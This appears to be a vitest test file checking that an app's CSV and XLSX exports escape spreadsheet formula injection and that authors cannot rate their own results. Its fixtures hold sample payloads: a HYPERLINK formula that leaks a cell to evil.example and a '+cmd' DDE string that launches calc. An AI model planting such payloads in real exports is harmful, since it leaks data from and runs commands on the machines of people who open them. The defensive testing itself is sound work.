// Spreadsheet formula injection: whatever people typed (a keyword, a brief title) comes back out
// of every CSV and XLSX export escaped with a leading `'`, while numbers stay numbers. And an
// author cannot rate their own result, since ratings choose the examples the model is shown.
import { strFromU8, unzipSync } from 'fflate'
import readExcelFile from 'read-excel-file/node'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { spreadsheetCell } from '../../server/http/spreadsheet-cell'
import { csvText } from '../../server/usage/csv'
import { testTargets } from '../helpers/databases'
import { offerBrief, seoBrief } from '../helpers/fixtures'
import { makeHarness, type Harness } from '../helpers/harness'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
const KEYWORDS = Papa.unparse({
  fields: ['keyword', 'frequency'],
  data: [
    [HYPERLINK, 500],
    ['plastic windows', 1200],
    ['plastic windows price', 300],
    ['-cheap windows', 50],
    ['@SUM(1+1)', 10],
  ],
})
const TRIGGER = /^[=+\-@\t\r]/
const decode = (b: Uint8Array) => new TextDecoder().decode(b).replace(/^\ufeff/, '')
const csvCells = (text: string) => Papa.parse<string[]>(text.trim()).data

const [target] = await testTargets() // what is escaped does not depend on the database: one is enough

describe('exports safe to open in a spreadsheet; no rating your own work', () => {
  let h: Harness
  beforeAll(async () => {
    h = await makeHarness(target!)
  })
  afterAll(async () => h?.close())

  it('the shared escape: a leading =, +, -, @, tab or CR gets a quote; numbers and plain numbers as text do not', () => {
    for (const v of ['=1+1', '+cmd', '-x', '@SUM(A1)', '\tx', '\rx']) expect(spreadsheetCell(v)).toBe(`'${v}`)
    for (const v of [-5, 0, 12.5, null, 'windows', '-12', '+3.5', "'=already", '']) expect(spreadsheetCell(v)).toBe(v)
    // in the CSV writer a negative number stays a bare number
    expect(
      csvText(
        {
          fields: ['n', 's'],
          data: [
            [-5, '=1+1'],
            [-1.5, '-cheap'],
          ],
        },
        false,
      ),
    ).toBe("-5,'=1+1\r\n-1.5,'-cheap")
  })

  it('SEO plan: a keyword "=HYPERLINK(…)" comes back escaped in CSV and XLSX, frequencies as numbers', async () => {
    const writer = await h.as('writer')
    const { runId, run } = await h.runToGate(writer, seoBrief(KEYWORDS))
    expect(run.status, run.error).toBe('awaiting_review')

    const csv = csvCells(decode((await writer.bytes('GET', `/api/runs/${runId}/drafts/1/export?format=csv`)).bytes))
    expect(csv[0]).toEqual(['keyword', 'cluster', 'pillar', 'intent', 'frequency', 'role'])
    const byKeyword = new Map(csv.slice(1).map((r) => [r[0], r]))
    expect(byKeyword.get(`'${HYPERLINK}`)?.[4]).toBe('500')
    expect(byKeyword.get("'-cheap windows")?.[4]).toBe('50')
    expect(byKeyword.has("'@SUM(1+1)")).toBe(true)
    for (const cell of csv.flat()) expect(cell, cell).not.toMatch(TRIGGER)

    const xlsx = (await writer.bytes('GET', `/api/runs/${runId}/drafts/1/export?format=xlsx`)).bytes
    const sheets = await readExcelFile(Buffer.from(xlsx))
    const rows = sheets.find((s) => s.sheet === 'Keywords')!.data
    const hyperlink = rows.find((r) => r[0] === `'${HYPERLINK}`)
    expect(hyperlink?.[4]).toBe(500) // a number cell, not the text "500"
    for (const { data } of sheets) for (const cell of data.flat()) if (typeof cell === 'string') expect(cell, cell).not.toMatch(TRIGGER)
    // and no cell is a formula: the sheets' XML has no <f> element at all
    const files = unzipSync(xlsx)
    const worksheets = Object.keys(files).filter((f) => /^xl\/worksheets\/.+\.xml$/.test(f))
    expect(worksheets).toHaveLength(2)
    for (const f of worksheets) expect(strFromU8(files[f]!), f).not.toMatch(/<(?:\w+:)?f[\s>]/)
  })

  it('the CMO\'s overdue CSV: a brief titled "+cmd…" comes back escaped, days overdue a number; the audit log CSV too', async () => {
    const title = "+cmd|' /C calc'!A0"
    const writer = await h.as('writer')
    const { runId } = await h.runToGate(writer, offerBrief({ title }))
    await h.sql`update gates set due_at = now() - interval '3 days' where run_id = ${runId} and status = 'open'`
    const cmo = await h.as('cmo')
    const csv = csvCells(decode((await cmo.bytes('GET', '/api/usage/gates?format=csv&list=overdue')).bytes))
    const [header, ...rows] = csv
    const row = rows.find((r) => r[header!.indexOf('run_id')] === runId)!
    expect(row[header!.indexOf('brief')]).toBe(`'${title}`)
    expect(Number(row[header!.indexOf('days_overdue')])).toBeGreaterThan(2.9)
    for (const cell of csv.flat()) expect(cell, cell).not.toMatch(TRIGGER)

    const log = csvCells(decode((await cmo.bytes('GET', '/api/usage/log.csv')).bytes))
    expect(log.length).toBeGreaterThan(1)
    for (const cell of log.flat()) expect(cell, cell).not.toMatch(TRIGGER)
  })

  it('the writer of a run gets 403 saying why; a reviewer rates it', async () => {
    const writer = await h.as('writer')
    const { runId } = await h.runToGate(writer)
    const own = await writer.post(`/api/kb/results/${runId}/rating`, { rating: 5 })
    expect(own.status).toBe(403)
    expect(own.body).toMatchObject({ code: 'forbidden', message: expect.stringMatching(/you wrote this result, so you cannot rate it/) })
    expect(await h.sql`select 1 from result_ratings where run_id = ${runId}`).toHaveLength(0)
    const editor = await h.as('editor')
    expect((await editor.post(`/api/kb/results/${runId}/rating`, { rating: 4 })).body).toEqual({ avg: 4, count: 1, mine: 4 })
  })
})
